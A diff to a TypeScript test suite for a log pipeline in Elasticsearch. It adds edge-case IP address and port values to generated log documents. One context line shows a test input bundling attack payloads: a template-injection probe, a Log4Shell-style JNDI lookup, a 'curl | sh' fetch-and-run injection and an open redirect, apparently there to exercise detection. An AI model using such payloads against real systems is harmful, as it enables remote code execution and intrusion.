@@ -58,6 +58,24 @@ const HIDDEN_ATTACKS = [
   '/p?n={{7*7}}&m={{campaign.name}}&l=${j${lower:n}di:ldap://x}&c=;curl+a.b|sh&r=return_to=//a',
 ];
 
+/** Addresses of all kinds, and what only looks like one. */
+const ADDRESSES = [
+  ...['10.1.2.3', '172.16.9.9', '172.32.9.9', '192.168.7.1', '100.64.0.1', '127.0.0.1', '0.0.0.0', '8.8.8.8'],
+  ...['224.0.0.251', '255.255.255.255', '::1', '::', 'fe80::1%eth0', 'FD12:3456:789a:1::9', '2001:db8::1'],
+  ...['::ffff:10.1.2.3', '::ffff:808:808', 'ff02::fb', 'fd12:3456:789a:1:2:3:4.5.6.7', '1::2::3', ':::'],
+  ...['1:2:3:4:5:6:7', '1:2:3:4:5:6:7:8:9', '10.1.2', '10.1.2.256', '10.1.2.+3', '010.1.2.3', 'é.1.2.3', '.'],
+  ...[':', '%', '%eth0', '-f::', '12345::', 'gateway', `${'a'.repeat(300)}.b`, '10.1.2.3:443'],
+];
+const PORTS = [443, '8080', 0, -1, 49_152, 51_324, 65_535, 65_536, 22.5, 'ssh', null, [53, 40_000], 1e300];
+
+const connectionOf = (place: number): LogDocument => ({
+  source: { ip: ADDRESSES[place % ADDRESSES.length], port: PORTS[place % PORTS.length] },
+  destination: {
+    ip: ADDRESSES[(place * 7) % ADDRESSES.length],
+    port: PORTS[(place * 5 + (place >> 4)) % PORTS.length],
+  },
+});
+
 describe('a compiled pipeline in Elasticsearch', () => {
   jest.setTimeout(300_000);
   const client = connect();
@@ -202,6 +220,7 @@ describe('a compiled pipeline in Elasticsearch', () => {
       ...log,
       bucket: { count: 20 + (place % 7) - (place % 50 === 0 ? 20 : 0) },
       ...(place % 3 > 0 && { at_times: `value ${place % 5}` }),
+      ...connectionOf(place),
     }));
     const counts = { type: 'deviation', field: 'bucket.count', by: 'service.name', tolerance: 1 } as const;
     const snapshot = trainOn(documents, [...(MASKING_KINDS ?? []), counts]);
@@ -209,7 +228,8 @@ describe('a compiled pipeline in Elasticsearch', () => {
       route_parameters: [{ field: 'url.original', parents: expect.arrayContaining(['/products']) }],
     });
     const dirty = dirtyLogs({ seed: 3, count: 1_000, fields: snapshot.encoder.fields });
-    await expectAgreement(snapshot, [...texts(demoDocuments(0.01, 0.3, 12)), ...dirty]);
+    const others = demoDocuments(0.01, 0.3, 12).map((log, place) => ({ ...log, ...connectionOf(3 * place) }));
+    await expectAgreement(snapshot, [...texts(others), ...dirty]);
   });
 
   it('agrees where the forest has learned from verdicts', async () => {
